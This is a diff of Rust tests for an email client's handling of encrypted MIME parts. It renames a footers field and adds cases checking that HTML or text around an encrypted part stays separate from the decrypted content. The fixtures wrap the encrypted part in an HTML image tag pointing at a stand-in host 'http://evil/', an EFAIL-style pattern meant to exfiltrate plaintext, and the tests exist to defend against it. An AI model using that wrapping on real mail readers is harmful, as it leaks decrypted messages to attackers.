@@ -15,7 +15,7 @@ fn is_left_alone(scene: &Scene, name: &str, entity: &str) {
     let answer = scene.reads(&mail);
     assert_eq!(answer.told(), "none none", "{name}");
     assert_eq!(answer.decrypted.message.as_deref(), Some(&mail[..]), "{name}");
-    assert_eq!(answer.decrypted.footers, [""; 0], "{name}");
+    assert_eq!(answer.decrypted.surrounding.after, [""; 0], "{name}");
     assert_eq!(answer.decrypted.session_key, None, "{name}");
 }
 
@@ -38,14 +38,10 @@ fn an_encrypted_part_between_html_parts_is_not_decrypted_at_all() {
     assert_eq!(whole.told(), "encrypted valid current");
     assert!(whole.shown().contains(SECRET));
     let (open, close) = (text("html", "<img src=\"http://evil/"), text("html", "\">"));
-    let plain = text("plain", "");
     for (name, entity) in [
         ("between", multipart("mixed", &[&open, &part, &close])),
         ("between, related", multipart("related", &[&open, &part, &close])),
         ("between, alternative", multipart("alternative", &[&open, &part, &close])),
-        ("behind", multipart("mixed", &[&open, &part])),
-        ("before", multipart("mixed", &[&part, &close])),
-        ("behind an empty text", multipart("mixed", &[&plain, &part])),
         ("deeper", multipart("mixed", &[&open, &multipart("mixed", &[&part]), &close])),
         ("deeper and alone", multipart("mixed", &[&multipart("mixed", &[&part])])),
         ("a forwarded mail", {
@@ -85,13 +81,34 @@ fn a_payload_without_a_header_is_text() {
 }
 
 #[test]
+fn text_beside_an_encrypted_part_is_given_apart_and_never_meets_it() {
+    let scene = Scene::knows_alice();
+    let part = secret(&scene);
+    let (open, close) = (text("html", "<img src=\"http://evil/"), text("html", "\">evil"));
+    let plain = text("plain", "evil");
+    for (name, parts, apart) in [
+        ("HTML before", &[&open, &part][..], 1),
+        ("HTML behind", &[&part, &close], 1),
+        ("HTML before and text behind", &[&open, &part, &plain], 2),
+        ("text before and HTML behind", &[&plain, &part, &close], 2),
+        ("an empty text", &[&text("plain", ""), &part], 0),
+    ] {
+        let parts: Vec<&str> = parts.iter().map(|part| part.as_str()).collect();
+        let answer = scene.reads(&mail(ALICE, "", &multipart("mixed", &parts)));
+        assert_eq!(answer.told(), "encrypted valid current", "{name}");
+        assert!(answer.shown().contains(SECRET) && !answer.shown().contains("evil"), "{name}");
+        assert_eq!(answer.decrypted.surrounding.all().count(), apart, "{name}");
+    }
+}
+
+#[test]
 fn html_in_a_list_footer_never_meets_the_decrypted_part() {
     let scene = Scene::knows_alice();
     let footer = text("plain", "<img src=\"http://evil/");
     let answer = scene.reads(&mail(ALICE, "", &multipart("mixed", &[&secret(&scene), &footer])));
     assert_eq!(answer.told(), "encrypted valid current");
     assert!(answer.shown().contains(SECRET) && !answer.shown().contains("evil"));
-    assert_eq!(answer.decrypted.footers.len(), 1);
+    assert_eq!(answer.decrypted.surrounding.after.len(), 1);
 }
 
 #[test]
@@ -152,7 +169,7 @@ fn a_signed_part_before_other_text_is_none_for_the_mail() {
     let answer = scene.reads(&mail(ALICE, "List-Id: <list.example.org>\r\n", &wrapped));
     assert_eq!(answer.told(), "none valid current");
     assert!(!answer.shown().contains("Mallory"), "{}", answer.shown());
-    assert_eq!(answer.decrypted.footers.len(), 1);
+    assert_eq!(answer.decrypted.surrounding.after.len(), 1);
 }
 
 #[test]
